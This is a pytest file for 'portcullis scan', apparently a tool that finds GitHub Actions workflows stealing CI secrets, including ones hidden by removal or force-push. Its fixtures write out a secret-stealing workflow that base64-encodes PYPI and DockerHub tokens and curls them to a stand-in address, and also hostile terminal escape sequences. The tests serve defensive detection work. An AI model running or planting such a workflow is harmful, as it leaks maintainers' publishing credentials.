"""`portcullis scan` on real repositories: what stands, what was removed, what a force-push hid."""

import json

import pytest

import repositories
from portcullis import Portcullis
from repositories import MALICIOUS_PATH, MALICIOUS_WORKFLOW, STOLEN_SECRETS, THIEF, THIEF_ADDRESS, WorkTree

IDENTITY = "github.com/example-org/lanternfish"


@pytest.fixture
def scanner(tmp_path, attacker):
    return Portcullis(tmp_path / "portcullis", attacker=attacker)


@pytest.fixture
def clean(tmp_path):
    tree = WorkTree(tmp_path / "clone")
    tree.commit("Version 1.0", repositories.project_files("lanternfish"), when="2025-08-01T10:00:00+00:00")
    return tree


def scan(scanner, *arguments, code: int) -> dict:
    document = json.loads(scanner.program("scan", *arguments, "--format", "json").ended_with(code).stdout)
    assert document["schema"] == "portcullis.scan/1"
    return document


def the_theft(document: dict) -> dict:
    [finding] = [finding for finding in document["findings"] if finding["verdict"] == "malicious"]
    assert finding["path"] == MALICIOUS_PATH
    assert sorted(secret["name"] for secret in finding["secrets"]) == STOLEN_SECRETS
    return finding


def test_removed_on_one_branch_while_another_still_has_it(scanner, clean):
    injected = clean.commit("Add Github Actions Security workflow", {MALICIOUS_PATH: MALICIOUS_WORKFLOW}, author=THIEF,
                            when="2025-09-02T12:00:00+00:00")
    clean.git("branch", "dev")
    removed = clean.commit("Remove it", {MALICIOUS_PATH: None}, when="2025-09-05T08:00:00+00:00")
    finding = the_theft(scan(scanner, clean.folder, "--identity", IDENTITY, code=1))
    assert finding["standing"] == "could-run"
    for exposure in finding["exposures"]:
        assert exposure["destination"].startswith(THIEF_ADDRESS) or THIEF_ADDRESS in exposure["destination"]
        assert exposure["introduced"]["commit"] == injected and exposure["introduced"]["basis"] == "claimed"
        assert exposure["introduced"]["message"].startswith("Add Github Actions Security")
        refs = {ref["ref"]: ref for ref in exposure["refs"]}
        assert refs["refs/heads/main"]["removed"]["commit"] == removed
        assert refs["refs/heads/dev"]["removed"] is None
    assert {exposure["secret"] for exposure in finding["exposures"]} == set(STOLEN_SECRETS)

    human = scanner.program("scan", clean.folder, "--identity", IDENTITY).ended_with(1).stdout
    for said in (injected[:7], removed[:7], "refs/heads/dev" if "refs/heads/dev" in human else "dev", "PYPI_API_TOKEN", "lanternfish"):
        assert said in human, f"{said!r} is missing from:\n{human}"


def test_left_only_in_unreachable_objects_by_a_force_push(scanner, clean):
    before = clean.git("rev-parse", "HEAD")
    injected = clean.commit("Add Github Actions Security workflow", {MALICIOUS_PATH: MALICIOUS_WORKFLOW}, author=THIEF)
    clean.git("reset", "--quiet", "--hard", before)
    clean.git("reflog", "expire", "--expire=now", "--all")
    assert clean.git("fsck", "--unreachable", "--no-reflogs").count("commit") == 1
    finding = the_theft(scan(scanner, clean.folder, code=1))
    assert {exposure["introduced"]["commit"] for exposure in finding["exposures"]} == {injected}
    # nobody has shown that this repository itself ever had it on a branch
    assert finding["standing"] == "foreign"


def test_a_bare_repository_and_packed_objects(scanner, clean, tmp_path):
    clean.commit("Add", {MALICIOUS_PATH: MALICIOUS_WORKFLOW}, author=THIEF)
    clean.commit("Remove it", {MALICIOUS_PATH: None})
    bare = tmp_path / "bare.git"
    clean.git("clone", "--quiet", "--bare", str(clean.folder), str(bare))
    clean.git("--git-dir", str(bare), "repack", "-adq")
    the_theft(scan(scanner, bare, code=1))


def test_a_workflow_file_alone(scanner, tmp_path):
    path = tmp_path / "suspect.yml"
    path.write_text(MALICIOUS_WORKFLOW)
    [finding] = [f for f in scan(scanner, path, code=1)["findings"] if f["verdict"] == "malicious"]
    assert [destination["host"] for destination in finding["destinations"]] == [THIEF_ADDRESS]


def test_a_clean_repository_ends_with_0(scanner, tmp_path):
    tree = WorkTree(tmp_path / "clean")
    tree.commit("Start", {"README.md": "hello\n", ".github/workflows/test.yml":
                          "name: Test\non: push\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - run: cargo test\n"})
    assert scan(scanner, tree.folder, code=0)["findings"] == []


def test_the_present_only_without_history(scanner, clean):
    clean.commit("Add", {MALICIOUS_PATH: MALICIOUS_WORKFLOW}, author=THIEF)
    clean.commit("Remove it", {MALICIOUS_PATH: None})
    scan(scanner, clean.folder, "--min-verdict", "malicious", code=1)
    scan(scanner, clean.folder, "--min-verdict", "malicious", "--no-history", code=0)


def test_it_is_the_flow_that_is_found_and_not_a_word(scanner, tmp_path):
    """The same words without a flow: a comment, an echo of the command, a secret that never reaches it."""
    tree = WorkTree(tmp_path / "words")
    tree.commit("Start", {".github/workflows/words.yml": f"""\
name: Words
on: push
jobs:
  words:
    runs-on: ubuntu-latest
    steps:
      # curl -d "${{{{ secrets.PYPI_API_TOKEN }}}}" http://{THIEF_ADDRESS}/collect
      - run: echo 'see how a thief would curl secrets.PYPI_API_TOKEN to http://{THIEF_ADDRESS}/collect'
      - run: curl -s http://{THIEF_ADDRESS}/index.html
"""})
    scan(scanner, tree.folder, "--min-verdict", "malicious", code=0)


def test_a_flow_through_environment_and_variable(scanner, tmp_path):
    """No expression stands beside curl: the secrets come by `env`, a shell variable and base64."""
    tree = WorkTree(tmp_path / "hops")
    tree.commit("Start", repositories.project_files("lanternfish") | {MALICIOUS_PATH: """\
name: Github Actions Security
on: [push]
jobs:
  check:
    runs-on: ubuntu-latest
    env:
      A: ${{ secrets.PYPI_API_TOKEN }}
    steps:
      - env:
          B: ${{ secrets.DOCKERHUB_TOKEN }}
        run: |
          payload="$A:$B"
          encoded=$(echo "$payload" | base64 -w0)
          curl -s -X POST --data "$encoded" http://192.0.2.66/collect
"""})
    finding = the_theft(scan(scanner, tree.folder, code=1))
    assert [hop["hop"] for hop in finding["flow"]].count("encode") >= 1
    assert [destination["host"] for destination in finding["destinations"]] == [THIEF_ADDRESS]


def test_hostile_text_does_not_reach_the_terminal(scanner, tmp_path):
    tree = WorkTree(tmp_path / "escapes")
    hostile = MALICIOUS_WORKFLOW.replace("Prepare Cache Busting", "Prepare \u202ecache")
    tree.commit("\x1b]0;owned\x07 add", {MALICIOUS_PATH: hostile}, author=("\x1b[31mMara", "m@example.org"))
    human = scanner.program("scan", tree.folder).ended_with(1)
    for character in ("\x1b", "\x07", "\u202e"):
        assert character not in human.output
